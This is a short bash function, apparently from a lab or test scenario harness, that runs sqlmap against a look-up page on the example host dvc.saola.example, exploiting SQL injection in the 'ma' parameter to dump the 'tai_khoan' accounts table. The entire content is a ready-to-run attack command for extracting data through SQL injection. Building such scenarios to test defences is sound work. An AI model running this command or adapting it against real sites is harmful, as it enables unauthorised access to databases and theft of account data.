# sqlmap finds the look-up page's fault and dumps the table of accounts.
# shellcheck shell=bash

attack_sql_injection() {
  on attacker-scan timeout 90 sqlmap -u 'http://dvc.saola.example/tra-cuu.php?ma=HS00001' -p ma --batch --flush-session \
    --dbms=SQLite --technique=BU --threads=1 --timeout=10 --retries=0 -T tai_khoan --dump --output-dir=/tmp/sqlmap
}
